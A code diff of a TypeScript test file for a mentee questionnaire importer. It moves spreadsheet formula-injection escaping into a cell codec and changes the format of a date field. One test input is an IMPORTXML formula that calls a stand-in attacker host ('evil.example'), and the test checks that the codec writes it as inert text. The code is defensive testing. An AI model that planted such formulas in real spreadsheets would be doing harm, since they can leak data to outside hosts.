@@ -1,3 +1,4 @@
+import { keepCell } from "../../../src/domain/workbook/codec";
 import {
   CONSENT_YES,
   GUARDIAN_CONSENT_PAPER,
@@ -52,7 +53,7 @@ describe("mentee questionnaire → «Наставляемые»", () => {
       form: "ученик – ученик",
       consent: true,
       status: "кандидат",
-      joined: new Date(2026, 9, 12),
+      joined: "2026-10-12",
       source: "анкета",
     });
     // The guardian's name stays in the form's own answers sheet, not in the register.
@@ -172,15 +173,15 @@ describe("what people type into free text", () => {
   const withSubject = (subject: string) =>
     mapResponse("mentee", answers({ ...petrova, [t("subject")]: subject }), context);
 
-  it("formula-like answers are stored as text", () => {
-    expect(accepted(withSubject('=IMPORTXML("http://evil.example","//a")')).row.subject).toBe(
-      `'=IMPORTXML("http://evil.example","//a")`,
-    );
-    expect(accepted(withSubject("+7 (900) 123-45-67")).row.subject).toBe("'+7 (900) 123-45-67");
-    expect(accepted(withSubject("-нет-")).row.subject).toBe("'-нет-");
-    expect(accepted(withSubject("@все")).row.subject).toBe("'@все");
+  it("formula-like answers are kept as written, and the cell codec writes them as text", () => {
+    const typed = ['=IMPORTXML("http://evil.example","//a")', "+7 (900) 123-45-67", "-нет-", "@все"];
+    for (const text of typed) {
+      const subject = accepted(withSubject(text)).row.subject;
+      expect(subject).toBe(text);
+      expect(keepCell(subject)).toBe(`'${text}`);
+    }
     const name = accepted(mapResponse("mentee", answers({ ...petrova, [t("name")]: "=1+1" }), context));
-    expect(name.row.name).toBe("'=1+1");
+    expect(name.row.name).toBe("=1+1");
   });
 
   it("HTML and script are stored as typed (escaping is the renderer's job)", () => {
